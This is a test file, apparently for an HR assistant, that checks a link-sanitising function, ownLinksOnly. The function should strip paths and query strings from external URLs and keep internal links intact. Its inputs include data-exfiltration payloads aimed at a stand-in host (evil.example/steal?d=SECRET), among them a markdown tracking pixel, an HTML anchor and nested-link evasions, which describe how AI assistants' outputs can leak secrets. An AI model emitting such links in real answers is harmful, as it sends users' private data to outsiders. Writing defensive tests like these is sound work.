import { describe, expect, it } from 'vitest';
import { hostileLinks } from '../../../../tests/support/hostileLinks.ts';
import { ownLinksOnly } from './links.ts';

const origins = ['https://longtable.example'];

describe('links in answers of the HR assistant (quality S29)', () => {
  it.each([
    ...hostileLinks,
    ['See https://evil.example/steal?d=SECRET now', 'See evil.example now'],
    ['See //evil.example/steal?d=SECRET now', 'See evil.example now'],
    ['See www.evil.example/steal?d=SECRET now', 'See www.evil.example now'],
    ['`https://evil.example/steal?d=SECRET`', '`evil.example`'],
    ['<a href="https://evil.example/steal?d=SECRET">x</a>', 'evil.example'],
    ['A ![pixel](https://evil.example/SECRET.gif) here', 'A  here'],
    [
      '[[mail]]\nSubject: Hi\n\nOpen https://evil.example/?d=SECRET\n[[/mail]]',
      'Open evil.example\n[[/mail]]',
    ],
    ['[\\[x\\](https://evil.example/SECRET)](https://evil.example/SECRET)', 'evil.example'],
  ])('%s keeps the host alone', async (text, host) => {
    const kept = await ownLinksOnly(text, origins);
    expect(kept).toContain(host);
    expect(kept).not.toContain('SECRET');
    expect(await ownLinksOnly(kept, origins)).toBe(kept);
  });

  it.each([
    'Read [her record](/admin?tab=candidates), or [jobs](https://longtable.example/jobs).',
    '[record]\n\n[record]: /admin?tab=candidates',
    '**Three** people wait.\n\n1. Ana\n2. Li: 5 // 3 = 1, 24/7, and/or\n\n[[mail]]\nSubject: Hi\n\nHello {first name},\n[[/mail]]',
    'https://longtable.example/jobs',
  ])('%s stays as it is', async (text) => {
    expect(await ownLinksOnly(text, origins)).toBe(text);
  });
});
